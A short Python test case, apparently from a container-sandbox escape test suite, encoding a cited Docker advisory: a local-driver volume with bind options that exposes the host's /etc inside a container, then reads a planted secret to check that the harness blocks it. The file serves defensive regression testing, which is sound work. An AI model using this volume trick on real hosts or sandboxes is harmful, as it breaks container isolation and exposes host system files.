"""A volume of the local driver with `o=bind,device=/etc` is the host's /etc under a volume's name."""

from bypass import refused

SOURCE = "CVE-2026-27002 / GHSA-w235-x559-36mg"
WAY = "volume"
ENGINES = "docker"
STOPPED = refused("bind-blocked")


def attack(t):
    secret = t.plant("/etc/secret-" + t.id)
    name = t.volume("--driver", "local", "-o", "type=none", "-o", "o=bind", "-o", "device=/etc")
    return t.leaked(t.run("-v", name + ":/x:ro", command="cat /x" + secret[len("/etc"):]))
